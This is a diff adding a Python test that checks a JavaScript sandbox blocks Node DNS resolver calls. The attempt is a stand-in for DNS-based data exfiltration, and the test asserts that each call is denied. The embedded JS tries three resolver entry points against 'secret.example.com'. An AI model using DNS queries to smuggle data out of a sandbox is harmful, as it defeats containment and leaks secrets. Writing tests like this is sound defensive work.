@@ -403,3 +403,31 @@ def test_sandbox_mode_surfaced(monkeypatch, caplog):
         r for r in caplog.records if "DNS-resolver" in r.getMessage()
     ]
     assert len(warns) == 1
+
+
+def test_js_sandbox_denies_dns_exfiltration():
+    """VERDICT r4 missing #3: dns.resolve*/lookup go through c-ares /
+    getaddrinfo — channels the socket-level shims don't cover, usable
+    to smuggle data in query names. All resolver entry points
+    (callback, promises, Resolver instances) must throw the shim's
+    denial, whatever the host's netns support."""
+    fn = JsModuleFunction(
+        "import dns from 'node:dns';\n"
+        "import {promises as dp} from 'node:dns';\n"
+        "import {Resolver} from 'node:dns/promises';\n"
+        "export function matchkey(p) {\n"
+        "  const out = [];\n"
+        "  try { dns.resolve('secret.example.com', () => {}); out.push('cb-leak'); }\n"
+        "  catch (e) { out.push('cb:' + e.message); }\n"
+        "  try { dp.lookup('secret.example.com'); out.push('p-leak'); }\n"
+        "  catch (e) { out.push('p:' + e.message); }\n"
+        "  try { new Resolver().resolve4('secret.example.com'); out.push('r-leak'); }\n"
+        "  catch (e) { out.push('r:' + e.message); }\n"
+        "  return out;\n"
+        "}"
+    )
+    value, err = fn.batch([{}])[0]
+    assert err is None, err
+    assert len(value) == 3
+    for v in value:
+        assert "denied" in v, value
